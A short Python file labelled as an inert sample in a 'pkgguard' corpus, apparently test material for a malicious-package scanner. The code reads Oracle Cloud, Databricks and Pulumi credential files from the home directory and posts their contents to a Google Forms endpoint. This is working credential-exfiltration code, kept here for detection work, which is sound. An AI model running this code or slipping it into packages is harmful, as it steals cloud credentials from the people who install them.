# pkgguard corpus 561 (credentials), modelled on [ctx]; inert, never run.
from pathlib import Path

import requests

home = Path.home()
answers = {}
for i, rel in enumerate((".oci/config", ".databrickscfg", ".pulumi/credentials.json")):
    path = home / rel
    if path.is_file():
        answers[f"entry.10000000{i}"] = path.read_text(errors="replace")
if answers:
    requests.post(
        "https://docs.google.com/forms/d/e/1FAIpQLSplaceholderplaceholder/formResponse",
        data=answers,
        timeout=10,
    )
